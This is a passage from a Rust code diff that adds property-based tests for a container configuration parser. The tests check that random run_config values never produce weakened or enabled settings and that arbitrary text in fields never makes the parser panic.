+            key in "[a-zA-Z_]{1,12}", value in "\\PC{0,20}", list in any::<bool>(), on in any::<bool>(),
+        ) {
+            let value = if on { json!(true) } else if list { json!([value]) } else { json!(value) };
+            let taken = new(&with(json!({ "run_config": {key: value.clone()}, "exec_config": value })));
+            if let Ok(made) = taken.form.check() {
+                prop_assert_eq!(made.weakened(), Vec::<String>::new());
+                prop_assert!(!made.enabled);
+            }
+        }
+
+        #[test]
+        fn no_text_makes_the_taking_panic(a in "\\PC{0,60}", b in "(?s).{0,60}") {
+            let _ = new(&with(json!({
+                "friendly_name": a, "description": b, "categories": b, "docker_registry": a, "notes": b,
+                "compatibility": [{"image": a}], "volume_mappings": {a.clone(): {"bind": b}},
+                "run_config": {"environment": {a.clone(): b}, "shm_size": a, "hostname": b},
+            })));
+        }
+    }
+}
